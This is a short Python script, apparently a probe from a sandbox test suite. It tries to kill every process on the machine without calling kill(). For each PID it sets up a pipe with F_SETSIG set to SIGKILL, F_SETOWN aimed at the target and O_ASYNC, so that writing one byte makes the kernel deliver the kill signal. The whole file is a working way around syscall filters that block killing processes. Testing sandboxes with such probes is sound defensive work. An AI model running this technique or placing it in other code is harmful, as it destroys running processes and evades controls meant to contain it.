# What it tries: Kill every process of the machine by F_SETSIG with F_SETOWN, which asks for no call that kills.
import fcntl
import os
import time

for pid in [os.getppid(), *range(2, 400)]:
    if pid == os.getpid():
        continue
    try:
        read, write = os.pipe()
        fcntl.fcntl(read, 10, 9)
        fcntl.fcntl(read, 8, pid)
        fcntl.fcntl(read, fcntl.F_SETFL, fcntl.fcntl(read, fcntl.F_GETFL) | 0o20000)
        os.write(write, b"x")
        os.close(read)
        os.close(write)
    except OSError:
        pass
time.sleep(0.1)
